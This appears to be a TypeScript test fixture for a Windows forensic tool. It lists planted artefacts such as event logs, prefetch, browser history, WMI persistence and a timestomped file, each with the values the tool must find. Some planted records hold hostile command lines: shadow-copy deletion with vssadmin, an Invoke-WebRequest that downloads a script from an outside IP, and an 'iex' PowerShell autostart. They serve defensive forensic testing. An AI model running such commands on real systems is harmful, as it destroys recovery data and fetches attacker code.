// What was planted on the examined Windows, and with which exact values it must be found.

import { createHash } from 'node:crypto'

import { wide } from '../support/artefact-fields.ts'
import type { Planted, Unpacked } from './lookup.ts'
import { srumProgram, wmiCommand } from './windows-databases.ts'
import { picture } from './windows-files.ts'
import { chromePath, deletedName, firefoxPath, stampedPath } from './windows-image.ts'
import { registryRows } from './windows-registry-planted.ts'
import { user, local, roaming, recent, logs, bin, logged, type WindowsRow } from './windows-row.ts'

const rows: readonly WindowsRow[] = [
  ...registryRows,
  {
    name: 'hidden task (XML)',
    files: ['/Windows/System32/Tasks/CacheTask'],
    told: [
      {
        kind: 'task',
        data: {
          uri: '\\CacheTask',
          author: 'PC-31\\mina',
          hidden: true,
          actions: [{ command: 'C:\\ProgramData\\ctask.exe', arguments: '/silent' }],
        },
      },
    ],
    finding: { rule: 'hidden-task', what: '\\CacheTask' },
  },
  {
    name: 'shortcut in the start-up folder',
    files: ['/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/Assist.lnk'],
    told: [
      {
        kind: 'lnk',
        data: { path: 'C:\\ProgramData\\assist\\a.exe', arguments: '--hidden' },
        time: { at: '2026-04-11T02:06:00.1000000Z', is: 'target created' },
      },
    ],
  },
  {
    name: 'shortcut of a recently opened file',
    files: [`${recent}/passwords.kdbx.lnk`],
    told: [
      {
        kind: 'lnk',
        data: { path: 'E:\\keys\\passwords.kdbx', linkInfo: { volume: { label: 'VAULT' } } },
        time: { at: '2026-04-11T02:07:30.0000000Z', is: 'target accessed' },
      },
    ],
  },
  {
    name: 'jump list',
    files: [`${recent}/AutomaticDestinations/a7bd71699cd38d1c.automaticDestinations-ms`],
    told: [
      {
        kind: 'jump-list',
        data: { path: 'E:\\plans\\merger.docx', accessCount: 4, hostname: 'pc-31' },
        time: { at: '2026-04-11T02:30:00.1234567Z', is: 'opened' },
      },
    ],
  },
  {
    name: 'prefetch, version 30, compressed',
    files: ['/Windows/Prefetch/RCLONE.EXE-1A2B3C4D.pf'],
    told: [
      {
        kind: 'prefetch',
        data: {
          executable: 'RCLONE.EXE',
          compressed: true,
          runCount: 11,
          files: [{ path: '\\VOLUME{01d0}\\USERS\\MINA\\SECRETS.XLSX' }],
        },
        time: { at: '2026-04-11T02:31:00.7654321Z', is: 'last run' },
      },
    ],
  },
  {
    name: 'file in the recycle bin',
    files: [`${bin}/$I7KQ2ZP.xlsx`, `${bin}/$R7KQ2ZP.xlsx`],
    told: [
      {
        kind: 'recycle-bin',
        data: { originalPath: 'C:\\Users\\mina\\Documents\\ledger.xlsx', fileSize: 35 },
        time: { at: '2026-04-11T02:32:00.5000000Z', is: 'deleted' },
      },
    ],
  },
  {
    name: 'Zone.Identifier stream',
    files: [`${user}/Downloads/kit.zip:Zone.Identifier`],
    told: [
      {
        kind: 'download',
        data: {
          file: /\/Users\/mina\/Downloads\/kit\.zip$/,
          zoneId: 3,
          hostUrl: 'http://198.51.100.77/kit.zip',
        },
      },
    ],
  },
  {
    name: 'event 4688 (process)',
    files: [`${logs}/Security.evtx`],
    told: [
      logged(4688, '2026-04-11T02:02:00.3000000Z', {
        NewProcessName: 'C:\\Windows\\System32\\vssadmin.exe',
        CommandLine: 'vssadmin delete shadows /all /quiet',
      }),
    ],
    finding: { by: 'sigma', rule: '7a3f7b43-6f3c-4d13-8a56-0a1d4be7c001', level: 'high' },
  },
  {
    name: 'event 4624 (remote desktop)',
    files: [`${logs}/Security.evtx`],
    told: [
      logged(4624, '2026-04-11T02:01:00.2000000Z', {
        TargetUserName: 'mina',
        LogonType: '10',
        IpAddress: '198.51.100.77',
      }),
    ],
  },
  {
    name: 'event 7045 (service)',
    files: [`${logs}/System.evtx`],
    told: [
      logged(7045, '2026-04-11T02:04:00.5000000Z', {
        ServiceName: 'PSEXESVC7',
        ImagePath: '%SystemRoot%\\PSEXESVC7.exe',
      }),
    ],
  },
  {
    name: 'event 4698 (task)',
    files: [`${logs}/Security.evtx`],
    told: [logged(4698, '2026-04-11T02:03:00.4000000Z', { TaskName: '\\Microsoft\\Windows\\Planted' })],
  },
  {
    name: 'event 1102 (log cleared)',
    files: [`${logs}/Security.evtx`],
    told: [logged(1102, '2026-04-11T02:00:00.1000000Z', { SubjectUserName: 'mina' })],
    finding: { rule: 'log-cleared', what: 'the log Security was cleared by PC-31\\mina' },
  },
  {
    name: 'event 4104 (script block)',
    files: [`${logs}/Microsoft-Windows-PowerShell%4Operational.evtx`],
    told: [
      logged(4104, '2026-04-11T02:05:00.6000000Z', {
        ScriptBlockText: 'Invoke-PlantedThing -Target 10.9.8.7',
      }),
    ],
  },
  {
    name: 'gap in the numbers of records',
    files: [`${logs}/Security.evtx`],
    told: [],
    finding: { rule: 'event-log-gap', details: { before: 504, after: 520, missing: 15 } },
  },
  {
    name: '$UsnJrnl',
    files: ['/$Extend/$UsnJrnl:$J'],
    told: [
      {
        kind: 'usn-journal',
        data: { name: 'stager.ps1', reasons: ['file-create'] },
        time: { at: '2026-04-11T02:33:00.1234567Z', is: 'changed' },
      },
      {
        kind: 'usn-journal',
        data: { name: 'stager.ps1', reasons: ['file-delete'] },
        time: { at: '2026-04-11T02:34:00.7654321Z', is: 'changed' },
      },
    ],
  },
  {
    name: 'download of Chrome',
    files: [chromePath],
    told: [
      {
        kind: 'browser-download',
        data: { target: 'C:\\Users\\mina\\Downloads\\kit.zip', url: 'http://198.51.100.77/kit.zip' },
        time: { at: '2026-04-11T01:58:00.000000Z', is: 'download began' },
      },
    ],
  },
  {
    name: 'visit of Firefox',
    files: [firefoxPath],
    told: [
      {
        kind: 'browser-visit',
        data: { url: 'https://paste.example/raw/7Qx', browser: 'firefox', transition: 'typed' },
        time: { at: '2026-04-11T01:57:00.123000Z', is: 'visited' },
      },
    ],
  },
  {
    name: 'history of PowerShell',
    files: [`${roaming}/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt`],
    told: [
      {
        kind: 'shell-history',
        data: {
          user: 'mina',
          shell: 'powershell',
          command: 'Invoke-WebRequest http://198.51.100.77/ps -OutFile C:\\Users\\Public\\p.ps1',
        },
      },
    ],
  },
  {
    name: 'hosts file',
    files: ['/Windows/System32/drivers/etc/hosts'],
    told: [{ kind: 'hosts', data: { address: '203.0.113.66', names: ['update.microsoft.com'] } }],
    finding: { rule: 'hosts-redirect', what: '203.0.113.66 update.microsoft.com' },
  },
  {
    name: 'EICAR test file',
    files: [`${user}/Downloads/eicar.com`],
    told: [],
    finding: { by: 'engine', rule: 'Eicar-Test-Signature', what: /\/Users\/mina\/Downloads\/eicar\.com$/ },
  },
  {
    name: 'SRUM',
    files: ['/Windows/System32/sru/SRUDB.dat'],
    told: [
      {
        kind: 'srum',
        data: { app: srumProgram, user: 'S-1-5-21-70-71-72-1003', values: { BytesSent: 987_654_321 } },
        time: { at: '2026-04-11T03:00:00.000Z', is: 'recorded' },
      },
    ],
  },
  {
    name: 'WebCache',
    files: [`${local}/Microsoft/Windows/WebCache/WebCacheV01.dat`],
    told: [
      {
        kind: 'web-cache',
        data: { kind: 'cache', url: 'http://198.51.100.77/stage2.hta', fileName: 'stage2[1].hta' },
        time: { at: '2026-04-11T01:59:00.7654321Z', is: 'accessed' },
      },
    ],
  },
  {
    name: 'subscription of WMI',
    files: [
      '/Windows/System32/wbem/Repository/OBJECTS.DATA',
      '/Windows/System32/wbem/Repository/MAPPING1.MAP',
    ],
    told: [
      {
        kind: 'autorun',
        data: {
          category: 'WMI',
          entry: 'PlantedConsumer',
          command: `${wmiCommand} [SELECT * FROM Win32_ProcessStartTrace]`,
        },
      },
    ],
    finding: { rule: 'unusual-autostart', what: /^PlantedConsumer: powershell -nop -c iex/ },
  },
  {
    name: 'thumbnail',
    files: [`${local}/Microsoft/Windows/Explorer/thumbcache_96.db`],
    told: [{ kind: 'thumbnail', data: { hash: '3f9a7c5511e0b2d4', sha256: sha256(picture) } }],
  },
]

function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex')
}

/** In the package with the bytes that were planted, and with their digest in its manifest. */
function isCollected(unpacked: Unpacked, path: string, planted: Buffer | undefined): boolean {
  const [own = '', stream] = path.split(':')
  const line = {
    path: own,
    ...(stream === undefined ? {} : { stream }),
    sha256: sha256(planted ?? Buffer.alloc(0)),
  }
  return (
    planted !== undefined && unpacked.bytes(`[root]${path}`)?.equals(planted) === true && unpacked.item(line)
  )
}

const table = '[root]/$MFT'

export function windowsPlanted(files: ReadonlyMap<string, Buffer>): readonly Planted[] {
  const inTable = (name: string) => (unpacked: Unpacked) =>
    unpacked.bytes(table)?.includes(wide(name)) === true
  return [
    ...rows.map(({ files: carriers, ...row }) => ({
      ...row,
      collected: (unpacked: Unpacked) =>
        carriers.every((path) => isCollected(unpacked, path, files.get(path))),
    })),
    {
      name: 'deleted file in the $MFT',
      collected: inTable(deletedName),
      told: [{ kind: 'mft', data: { path: `\\Users\\${deletedName}`, inUse: false, data: { size: 5 } } }],
    },
    {
      name: 'file whose times were set',
      collected: inTable('svch0st.exe'),
      told: [
        {
          kind: 'mft',
          data: {
            path: stampedPath.replaceAll('/', '\\'),
            timestomp: ['created-before-name', 'whole-seconds'],
          },
          time: { at: '2019-03-04T05:06:07.0000000Z', is: 'created' },
        },
      ],
      finding: { rule: 'timestomp', what: stampedPath },
    },
  ]
}
